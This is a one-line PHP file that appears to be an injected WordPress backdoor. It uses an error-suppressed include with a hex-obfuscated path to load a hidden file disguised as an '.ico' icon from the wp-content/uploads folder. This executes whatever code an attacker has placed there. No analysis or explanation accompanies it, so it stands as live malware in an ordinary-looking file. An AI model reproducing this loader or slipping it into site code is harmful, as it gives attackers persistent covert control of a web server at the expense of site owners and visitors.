<?php
@include "\x2fv\x61r\x2fw\x77w\x2fh\x74ml\x2fwp-content\x2fuploads\x2f.f8a1c2.ico";
